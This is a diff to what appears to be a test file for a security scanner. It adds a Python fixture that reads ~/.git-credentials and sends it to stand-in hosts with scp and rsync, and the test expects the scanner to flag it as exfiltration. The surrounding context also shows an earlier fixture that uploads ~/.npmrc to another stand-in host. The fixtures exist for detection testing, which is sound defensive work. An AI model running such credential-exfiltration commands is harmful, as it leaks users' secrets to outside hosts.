@@ -185,6 +185,16 @@ new Uploader().put(process.env.HOME + '/.npmrc', 'https://sink.example.net/u');
 `,
     /^(?:bash-exfiltration|cap-exfiltration)$/,
   ],
+  [
+    // a command line split into an argv (str.split / shlex.split), no shell involved
+    'w14.py',
+    `import os, shlex, subprocess
+cred = os.path.join(os.path.expanduser("~"), ".git-credentials")
+subprocess.run("scp -q {} in@{}:/c/".format(cred, "files.example.net").split())
+subprocess.run(shlex.split(f"rsync -a {cred} mirror.example.invalid:/c/"))
+`,
+    /^(?:bash-exfiltration|cap-exfiltration)$/,
+  ],
 ];
 
 /** [file name, code, a rule that must be among the findings] — at least review */
